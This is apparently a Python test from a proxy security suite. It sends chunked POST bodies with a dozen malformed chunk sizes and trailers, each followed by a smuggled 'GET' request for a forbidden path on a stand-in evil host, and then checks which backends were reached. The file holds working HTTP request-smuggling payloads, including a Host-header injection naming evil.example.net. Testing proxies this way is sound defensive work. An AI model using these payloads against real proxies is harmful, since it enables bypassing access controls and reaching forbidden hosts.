"""Sends a body in pieces whose sizes readers read differently."""
# outside: escapes

from attempt import attempt
from proxied import EVIL, FORBIDDEN, GOOD, exchange, reached, status

HIDDEN = f"GET /{FORBIDDEN} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()


@attempt
def main():
    found = []
    for body in (
        b"0x5\r\nhello\r\n0\r\n\r\n",
        b"-5\r\nhello\r\n0\r\n\r\n",
        b"+5\r\nhello\r\n0\r\n\r\n",
        b"FFFFFFFFFFFFFFFF5\r\nhello\r\n0\r\n\r\n",
        b"5\nhello\n0\n\n",
        b"5\r\nhelloX\r\n0\r\n\r\n",
        b'5;a="\nb"\r\nhello\r\n0\r\n\r\n',
        b"\r\n5\r\nhello\r\n0\r\n\r\n",
        b"5_0\r\nhello\r\n0\r\n\r\n",
        b"5\r\nhello0\r\n\r\n",
        b"5\rhello\r0\r\r",
        b"\xef\xbc\x95\r\nhello\r\n0\r\n\r\n",
        b"0\r\nHost: evil.example.net\nX: y\r\n\r\n",
    ):
        raw = exchange(
            f"POST http://{GOOD}/odd-pieces HTTP/1.1\r\nHost: {GOOD}\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + body + HIDDEN,
            answers=1,
        )
        found += [f"{body!r}: {who}" for who in reached(raw, GOOD)] + (
            [f"{body!r}: {status(raw)}"] if status(raw) in range(200, 300) else []
        )
    return found
